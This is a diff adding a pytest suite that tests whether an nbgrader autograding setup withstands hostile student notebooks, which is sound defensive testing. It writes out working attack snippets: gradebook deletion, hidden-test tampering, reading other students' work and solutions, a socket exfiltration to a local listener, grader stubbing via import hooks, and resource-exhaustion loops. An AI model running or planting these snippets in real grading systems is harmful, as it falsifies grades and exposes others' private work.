@@ -1,0 +1,301 @@
+"""A class that attacks the grader, graded with README's stock commands: every attack changes nothing but the
+attacker's own honest score, each one is named in the anomaly report, and the run completes.
+
+The class is lesson 01 (the cheapest to grade). Honest, broken and hostile students hand in notebooks; the test
+checks exact grades, the named anomaly for each, that the course files and every other submission are unchanged
+byte for byte, that no feedback page shows another student's work, a solution or a hidden test, that a listener
+on this machine receives nothing, and that a run killed half-way and started again ends with the same grades.
+"""
+import csv
+import hashlib
+import json
+import os
+import pathlib
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+import nbformat
+import pytest
+
+from lessons import ROOT, read, solved_release
+
+sys.path.insert(0, str(ROOT / "autograde"))
+from qkv_autograde import sandbox  # noqa: E402
+
+LESSON = "01-lookup"
+BIN = pathlib.Path(sys.executable).parent
+POINTS = {"test_hard_lookup": 2, "test_softmax": 3, "test_soft_lookup": 3, "test_soft_lookup_by_temperature": 2,
+          "test_answer_lookup_on_miss": 1, "test_answer_blended_output": 1, "test_answer_why_separate": 1}
+FULL = sum(POINTS.values())
+PRIVATE_NOTE = "private-note-7f3a9c"  # only in the victim's notebook: no other feedback may show it
+FAST = ["--SandboxedExecute.cell_timeout=15", "--SandboxedExecute.call_timeout=10",
+        "--SandboxedExecute.budget_seconds=240"]
+
+pytestmark = pytest.mark.grading_class
+
+
+def run(*args, cwd, check=True, **kw):
+    env = dict(os.environ, PATH=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}", MPLBACKEND="Agg")
+    result = subprocess.run([str(BIN / "nbgrader"), *args], cwd=cwd, env=env, capture_output=True, text=True,
+                            timeout=1800, **kw)
+    if check and result.returncode != 0:
+        raise AssertionError(f"nbgrader {' '.join(args)} failed:\n{result.stdout[-3000:]}\n{result.stderr[-5000:]}")
+    return result
+
+
+def hashes(*folders):
+    found = {}
+    for folder in folders:
+        for path in sorted(pathlib.Path(folder).rglob("*")):
+            if path.is_file() and "__pycache__" not in path.parts:
+                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+    return found
+
+
+def with_cell(nb, grade, extra, replace=False):
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade:
+            cell.source = extra if replace else cell.source + "\n" + extra
+            return nb
+    raise KeyError(grade)
+
+
+class Listener:
+    """A TCP server on loopback that records every byte anyone sends it."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(5)
+        self.sock.settimeout(0.5)
+        self.port = self.sock.getsockname()[1]
+        self.received, self.connections = b"", 0
+        self.stop = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            conn.settimeout(1)
+            try:
+                self.received += conn.recv(1 << 16)
+            except OSError:
+                pass
+            conn.close()
+
+    def close(self):
+        self.stop = True
+        self.thread.join(timeout=5)
+        self.sock.close()
+
+
+def hostile_class(course, port):
+    """{student: (notebook or raw bytes, file name, expected score, anomaly names that must be reported)}."""
+    instructor = course / "autograde"
+    gradebook = instructor / "gradebook.db"
+    hidden = instructor / "qkv_grading" / "lesson01.py"
+    victim = instructor / "submitted" / "perfect" / LESSON / f"{LESSON}.ipynb"
+    solution = course / "solutions" / LESSON / f"{LESSON}.ipynb"
+    perfect, blank = (lambda: solved_release(LESSON)), (lambda: solved_release(LESSON, []))
+    victim_notebook = perfect()
+    victim_notebook.cells.append(nbformat.v4.new_markdown_cell(f"My own notes: {PRIVATE_NOTE}"))
+    leak = (f"for path in [{str(victim)!r}, {str(solution)!r}, {str(hidden)!r}]:\n"
+            f"    try:\n        print(open(path).read())\n    except OSError as e:\n        print('no', e)")
+    cheats = {
+        "sysmodules": "import sys, types\nfake = types.ModuleType('qkv_grading')\nfake.__getattr__ = lambda n: "
+                      "types.SimpleNamespace(**{k: (lambda *a, **k: None) for k in ['softmax','hard_lookup','soft_lookup',"
+                      "'temperature_sweep','answer']})\nsys.modules['qkv_grading'] = fake\nsys.modules['qkv_grading.lesson01'] = fake",
+        "importhook": "import builtins\n_real = builtins.__import__\ndef _hook(name, *a, **k):\n"
+                      "    module = _real(name, *a, **k)\n    if name.startswith('qkv'):\n"
+                      "        for attr in dir(module):\n            try:\n                setattr(module, attr, lambda *a, **k: None)\n"
+                      "            except Exception:\n                pass\n    return module\nbuiltins.__import__ = _hook",
+        "checkingnoop": "import qkv.checking\nfor k in list(vars(qkv.checking)):\n    if callable(vars(qkv.checking)[k]):\n"
+                        "        vars(qkv.checking)[k] = lambda *a, **k: None",
+    }
+    students = {
+        "perfect": (victim_notebook, None, FULL, []),
+        "blank": (blank(), None, 0, []),
+        "gradebookdeleter": (with_cell(perfect(), "hard_lookup",
+                                       f"import os, sqlite3\nfor f in [{str(gradebook)!r}, '../../gradebook.db']:\n"
+                                       f"    try:\n        os.remove(f)\n    except OSError:\n        pass\n"
+                                       f"try:\n    sqlite3.connect({str(gradebook)!r}).execute('delete from grade')\n"
+                                       f"except Exception:\n    pass"), None, FULL, []),
+        "testeditor": (with_cell(perfect(), "softmax",
+                                 f"try:\n    open({str(hidden)!r}, 'a').write('\\nraise SystemExit')\nexcept OSError:\n    pass"),
+                       None, FULL, []),
+        "overwriter": (with_cell(perfect(), "softmax",
+                                 f"import shutil\ntry:\n    shutil.copy('01-lookup.ipynb', {str(victim)!r})\n"
+                                 f"except OSError:\n    pass"), None, FULL, []),
+        "leaker": (with_cell(perfect(), "softmax", leak), None, FULL, []),
+        "networker": (with_cell(perfect(), "softmax",
+                                f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
+                                f"    s.sendall(b'STOLEN')\nexcept OSError as e:\n    print('network:', e)"), None, FULL, []),
+        "sysmodules": (with_cell(blank(), "hard_lookup", cheats["sysmodules"], replace=True), None, 0, []),
+        "importhook": (with_cell(blank(), "hard_lookup", cheats["importhook"], replace=True), None, 0, []),
+        "checkingnoop": (with_cell(blank(), "hard_lookup", cheats["checkingnoop"], replace=True), None, 0, []),
+        "threadref": (with_cell(perfect(), "softmax",
+                                "import _thread, time\nfrom qkv.attention import softmax as _reference\n"
+                                "def softmax(x, axis=-1):\n    box = []\n"
+                                "    _thread.start_new_thread(lambda: box.append(_reference(x, axis)), ())\n"
+                                "    time.sleep(0.5)\n    return box[0] if box else None", replace=True),
+                      # their softmax fails, and so does everything of theirs built on it
+                      None, FULL - sum(POINTS[t] for t in ("test_softmax", "test_soft_lookup",
+                                                           "test_soft_lookup_by_temperature", "test_answer_blended_output")),
+                      []),
+        "osexit": (with_cell(perfect(), "hard_lookup", "import os\nos._exit(0)"),
+                   None, FULL - POINTS["test_hard_lookup"], ["kernel died", "kernel restarted"]),
+        "looper": (with_cell(perfect(), "soft_lookup_by_temperature",
+                             "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
+                   None, FULL - POINTS["test_soft_lookup_by_temperature"], ["timeout", "kernel restarted"]),
+        "slowcall": (with_cell(perfect(), "soft_lookup_by_temperature",
+                               "def soft_lookup_by_temperature(query, keys, values, temperatures):\n    while True:\n"
+                               "        pass", replace=True),
+                     None, FULL - POINTS["test_soft_lookup_by_temperature"], ["timeout"]),
+        "memoryhog": (with_cell(perfect(), "softmax", "hog = bytearray(8 << 30)"), None, FULL, []),
+        "printer": (with_cell(perfect(), "softmax", "for i in range(300000):\n    print('spam' * 10)"),
+                    None, FULL, ["output truncated"]),
+        "stripped": (_stripped(perfect()), None, FULL, ["metadata stripped"]),
+        "renamed": (perfect(), f"{LESSON}-Copy1.ipynb", FULL, ["renamed file"]),
+        "corrupt": (b'{"cells": [', None, 0, ["corrupt file"]),
+        "empty": (b"", None, 0, ["corrupt file"]),
+        "lockededit": (_edit_test_cell(perfect()), None, FULL, ["locked cell edited"]),
+        "with space": (perfect(), None, FULL, []),
+        "élodie": (perfect(), None, FULL, []),
+    }
+    return students
+
+
+def _stripped(nb):
+    for cell in nb.cells:
+        cell.metadata.pop("nbgrader", None)
+        cell.metadata.pop("deletable", None)
+        cell.metadata.pop("editable", None)
+    return nb
+
+
+def _edit_test_cell(nb):
+    return with_cell(nb, "test_softmax", "pass  # nothing to see here", replace=True)
+
+
+@pytest.fixture(scope="module")
+def graded_class(tmp_path_factory):
+    course = tmp_path_factory.mktemp("course") / "qkv"
+    for folder in ("autograde", "solutions", "notebooks"):
+        shutil.copytree(ROOT / folder, course / folder, ignore=shutil.ignore_patterns(
+            "gradebook.db", "submitted", "autograded", "feedback", "__pycache__", "*.csv", "*.html", ".staged"))
+    instructor = course / "autograde"
+    run("generate_assignment", LESSON, "--force", cwd=instructor)
+    listener = Listener()
+    students = hostile_class(course, listener.port)
+    for student, (content, name, _, _) in students.items():
+        folder = instructor / "submitted" / student / LESSON
+        folder.mkdir(parents=True)
+        path = folder / (name or f"{LESSON}.ipynb")
+        if isinstance(content, bytes):
+            path.write_bytes(content)
+        else:
+            nbformat.write(content, path)
+        (folder / "timestamp.txt").write_text("2026-11-29 09:00:00.000000 UTC")
+    dotted = instructor / "submitted" / ".hidden" / LESSON
+    dotted.mkdir(parents=True)
+    nbformat.write(solved_release(LESSON), dotted / f"{LESSON}.ipynb")
+    protected = [instructor / "qkv_grading", instructor / "qkv_autograde", instructor / "submitted",
+                 course / "solutions", course / "notebooks"]
+    before = hashes(*protected) | hashes(instructor / "nbgrader_config.py")
+    started = time.monotonic()
+    result = run("autograde", LESSON, *FAST, cwd=instructor)
+    seconds = time.monotonic() - started
+    run("generate_feedback", LESSON, cwd=instructor)
+    run("export", "--to", "grades.csv", cwd=instructor)
+    listener.close()
+    after = hashes(*protected) | hashes(instructor / "nbgrader_config.py")
+    grades = {r["student_id"]: float(r["score"]) for r in csv.DictReader((instructor / "grades.csv").open())
+              if r["assignment"] == LESSON}
+    report = {r["student"]: r for r in csv.DictReader((instructor / f"anomalies-{LESSON}.csv").open())}
+    print(f"hostile class of {len(students) + 1} graded in {seconds:.0f} s (isolation: {sandbox.isolation()})")
+    return dict(course=course, students=students, grades=grades, report=report, before=before, after=after,
+                listener=listener, log=result.stdout + result.stderr)
+
+
+def test_every_student_gets_exactly_their_honest_score(graded_class):
+    expected = {s: score for s, (_, _, score, _) in graded_class["students"].items()}
+    assert graded_class["grades"] == pytest.approx(expected)
+
+
+def test_each_anomaly_is_named_in_the_report(graded_class):
+    report = graded_class["report"]
+    for student, (_, _, _, names) in graded_class["students"].items():
+        listed = report[student]["anomalies"].split("; ") if report[student]["anomalies"] else []
+        for name in names:
+            assert name in listed, f"{student}: {name!r} missing from the report ({report[student]})"
+    assert "refused student id" in report[".hidden"]["anomalies"]
+    honest = {"perfect", "blank", "with space", "élodie"}
+    for student in honest:
+        assert report[student]["anomalies"] in ("", "isolation partial"), (student, report[student])
+    assert (graded_class["course"] / "autograde" / f"anomalies-{LESSON}.html").stat().st_size > 1000
+
+
+def test_course_files_and_other_submissions_are_unchanged(graded_class):
+    changed = [p for p in graded_class["before"] if graded_class["before"][p] != graded_class["after"].get(p)]
+    assert not changed, f"files changed by grading: {changed}"
+    assert (graded_class["course"] / "autograde" / "gradebook.db").exists()
+
+
+def test_no_feedback_shows_another_submission_a_solution_or_a_hidden_test(graded_class):
+    course = graded_class["course"]
+    secrets = ["BEGIN HIDDEN TESTS", "GRADED_REFERENCES", "def fresh_rng", "check_against("]
+    for page in (course / "autograde" / "feedback").rglob("*.html"):
+        text = page.read_text()
+        for secret in secrets + ([] if "/perfect/" in str(page) else [PRIVATE_NOTE]):
+            assert secret not in text, f"{page}: feedback shows {secret!r}"
+    leaker = next((course / "autograde" / "feedback" / "leaker" / LESSON).glob("*.html")).read_text()
+    assert "No such file or directory" in leaker
+    for student in ("corrupt", "empty", "sysmodules"):
+        assert list((course / "autograde" / "feedback" / student / LESSON).glob("*.html")), student
+
+
+@pytest.mark.skipif(not sandbox.bwrap_works(), reason="network isolation needs bubblewrap; the run is flagged partial")
+def test_a_listener_on_this_machine_receives_nothing(graded_class):
+    assert graded_class["listener"].received == b"" and graded_class["listener"].connections == 0
+
+
+def test_a_run_killed_half_way_then_rerun_gives_the_same_grades(tmp_path):
+    course = tmp_path / "qkv"
+    for folder in ("autograde", "solutions", "notebooks"):
+        shutil.copytree(ROOT / folder, course / folder, ignore=shutil.ignore_patterns(
+            "gradebook.db", "submitted", "autograded", "feedback", "__pycache__", "*.csv", "*.html", ".staged"))
+    instructor = course / "autograde"
+    run("generate_assignment", LESSON, "--force", cwd=instructor)
+    expected = {}
+    for i, solved in enumerate([None, [], ["hard_lookup", "softmax"], None]):
+        student = f"s{i}"
+        folder = instructor / "submitted" / student / LESSON
+        folder.mkdir(parents=True)
+        nbformat.write(solved_release(LESSON, solved), folder / f"{LESSON}.ipynb")
+        expected[student] = FULL if solved is None else (5 if solved else 0)
+    env = dict(os.environ, PATH=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}", MPLBACKEND="Agg")
+    process = subprocess.Popen([str(BIN / "nbgrader"), "autograde", LESSON], cwd=instructor, env=env,
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    # kill -9 while the second student is being graded: the first is done, the second half-way
+    deadline = time.monotonic() + 600
+    while not (instructor / "autograded" / "s1" / LESSON / f"{LESSON}.ipynb").exists():
+        assert process.poll() is None and time.monotonic() < deadline, "autograde ended before it could be killed"
+        time.sleep(0.05)
+    os.killpg(process.pid, signal.SIGKILL)
+    process.wait()
+    result = run("autograde", LESSON, cwd=instructor)
+    assert "graded only half-way" in result.stdout + result.stderr
+    run("export", "--to", "grades.csv", cwd=instructor)
+    rows = [r for r in csv.DictReader((instructor / "grades.csv").open()) if r["assignment"] == LESSON]
+    assert len(rows) == len(expected), "one row per student, no duplicates"
+    assert {r["student_id"]: float(r["score"]) for r in rows} == pytest.approx(expected)
